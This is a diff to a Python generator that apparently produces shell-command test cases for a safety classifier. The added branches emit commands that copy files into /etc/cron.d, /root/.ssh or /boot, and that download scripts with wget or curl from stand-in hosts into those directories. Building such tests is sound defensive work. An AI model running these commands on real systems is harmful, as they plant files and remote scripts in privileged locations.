@@ -80,7 +80,7 @@ JOURNAL_LONG = ["--cursor-file", "--cursor", "--after-cursor", "--show-cursor"]
 
 def options_with_values():
     target = pick(SYSTEM_FILES)
-    k = rng.randrange(14)
+    k = rng.randrange(16)
     if k == 0:
         o = pick(CURL_WRITE)
         f = pick(value_forms(o, target, None, list("sSfLk") if len(o) == 2 else None))
@@ -108,6 +108,18 @@ def options_with_values():
         return 2, "find /var/log -name '*.log' " + pick(["-fprint ", "-fprint0 ", "-fls "]) + target
     if k == 10:
         return 2, pick(["sar -o {} 1 1", "sshd -t -E {}", "flock {} true"]).format(target)
+    if k == 13:
+        d = pick(["/etc/cron.d", "/etc", "/usr/local/bin", "/root/.ssh", "/boot"])
+        return 2, pick(["cp", "mv", "ln -s", "install", "cp -a"]) + " " + pick([
+            "-t %s /tmp/x", "-t%s /tmp/x", "--target-directory=%s /tmp/x",
+            "--target-d=%s /tmp/x", "--target-dir %s /tmp/x", "-vt %s /tmp/x",
+            "-vt%s /tmp/x"]) % d
+    if k == 12:
+        d = pick(["/etc", "/etc/cron.d", "/root/.ssh", "/usr/local/bin", "/etc/profile.d"])
+        return 2, "cd %s && %s" % (d, pick([
+            "wget http://10.0.0.5/x", "wget -q https://example.com/a.sh", "wget -r http://x/",
+            "curl -O http://10.0.0.5/x", "curl -sSLO https://example.com/a.sh",
+            "curl -J -O http://x/y", "wget --content-disposition http://x/y"]))
     if k == 11:
         return 2, pick(["yq -i '.a=1' ", "sed -i s/a/b/ ", "sed --in-place= s/a/b/ ",
                         "psql -c 'select 1' -o ", "psql -c 'select 1' -L ",
